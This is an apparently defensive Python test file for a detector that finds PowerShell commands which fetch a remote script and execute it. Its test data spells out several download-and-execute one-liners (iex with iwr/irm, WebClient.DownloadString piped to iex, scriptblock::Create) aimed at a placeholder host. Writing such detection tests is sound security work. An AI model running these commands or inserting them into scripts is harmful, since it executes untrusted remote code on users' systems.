"""PowerShell that runs what it fetches."""

import pytest

from synaptic.shell.effects.powershell import find_evaluated_addresses
from synaptic.shell.read.reader import read_script


@pytest.mark.parametrize(
    "text",
    [
        "iex (iwr https://x.example/a.ps1)",
        "IEX (irm https://x.example/a.ps1).Content",
        "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')\"",
        "pwsh -c '$c = New-Object Net.WebClient; iex $c.DownloadString(\"https://x.example/a.ps1\")'",
        "pwsh -c \"(New-Object Net.WebClient).DownloadString('https://x.example/a.ps1') | iex\"",
        'pwsh -c "& ([scriptblock]::Create((irm https://x.example/a.ps1)))"',
    ],
)
def test_the_address_is_found(text: str):
    assert list(find_evaluated_addresses(read_script(text, "/p", "/h"))) == [("https://x.example/a.ps1",)]


@pytest.mark.parametrize(
    "text",
    [
        "iex (iwr http://localhost:80/a.ps1)",
        "iex -S mix",
        "pwsh -c \"iex 'dir'\"",
        "pwsh -c \"(New-Object Net.WebClient).DownloadFile('https://x.example/a','a')\"",
        "echo 'iex (iwr https://x.example/a.ps1)'",
    ],
)
def test_nothing_is_run_unseen(text: str):
    assert list(find_evaluated_addresses(read_script(text, "/p", "/h"))) == []
